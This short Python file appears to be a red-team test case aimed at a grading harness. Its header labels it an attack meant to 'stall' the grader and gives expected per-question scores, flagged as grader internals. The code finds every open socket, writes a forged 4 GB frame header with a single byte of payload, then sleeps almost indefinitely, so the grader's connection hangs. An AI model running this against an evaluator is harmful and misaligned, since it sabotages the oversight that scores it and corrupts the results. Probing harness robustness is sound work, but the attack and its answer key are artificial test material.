# attack: Announces a frame of 4 GB on every open socket, and sends one byte of it.
# gain: stall
# expect: q01=3 q02=0 q03=3
# flag: grader-internals

# %% q02
import os
import stat
import time

for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.set_blocking(number, False)
            os.write(number, b"\xff\xff\xff\xff\xff\xff\xff\xff{")
    except OSError:
        continue
time.sleep(10**6)
